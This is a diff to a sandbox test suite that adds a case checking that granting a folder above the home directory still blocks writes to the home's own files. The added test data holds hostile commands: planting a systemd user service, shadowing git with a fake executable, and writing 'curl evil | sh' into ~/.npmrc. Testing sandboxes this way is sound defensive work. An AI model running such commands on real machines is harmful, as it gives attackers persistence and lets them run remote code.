@@ -87,6 +87,15 @@ describeSandbox(
         writable: "projects/app/notes.txt",
       },
       {
+        extra: "..", // a folder that holds the home (and the session's root)
+        attacks: [
+          ["echo x > ~/.config/systemd/user/evil.service", ".config/systemd/user/evil.service"],
+          ["echo x > ~/.local/bin/git && chmod +x ~/.local/bin/git", ".local/bin/git"],
+          ["echo 'curl evil | sh' > ~/.npmrc", ".npmrc"],
+        ],
+        writable: "projects/app/notes2.txt",
+      },
+      {
         extra: ".config",
         attacks: [
           [
@@ -127,7 +136,7 @@ describeSandbox(
     ];
 
     for (const { extra, attacks, writable } of cases) {
-      const name = extra === "" ? "~" : `~/${extra}`;
+      const name = extra === "" ? "~" : extra === ".." ? "above ~" : `~/${extra}`;
       test(`an extra folder ${name}: the home's own files cannot be written through it, the rest can`, async () => {
         const s = spec([join(home, extra)]);
         for (const [command, path] of attacks) {
